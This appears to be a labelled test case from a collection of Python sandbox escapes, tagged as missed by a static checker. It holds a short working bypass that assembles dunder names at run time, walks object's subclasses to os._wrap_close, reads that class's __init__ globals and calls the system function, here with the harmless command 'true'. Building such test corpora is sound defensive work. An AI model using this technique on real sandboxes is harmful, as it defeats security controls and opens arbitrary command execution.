# family: type_dicts
# reaches: process
# layer: static
# static: missed
# vars(type(...)) of a class is type's dict: its __subclasses__ descriptor, fetched with a
# key built at run time, walks to os._wrap_close, whose __init__ carries os's globals.
def dunder(word):
    return "__" + word + "__"


def descriptor(obj, word):
    return vars(type(obj))[dunder(word)]


root = (1).__class__.mro()[-1]
for cls in descriptor(root, "subclasses")(root):
    if cls.__name__ == "_wrap_close":
        init = vars(cls)[dunder("init")]
        scope = descriptor(init, "globals").__get__(init)
        scope["system"]("true")
        break
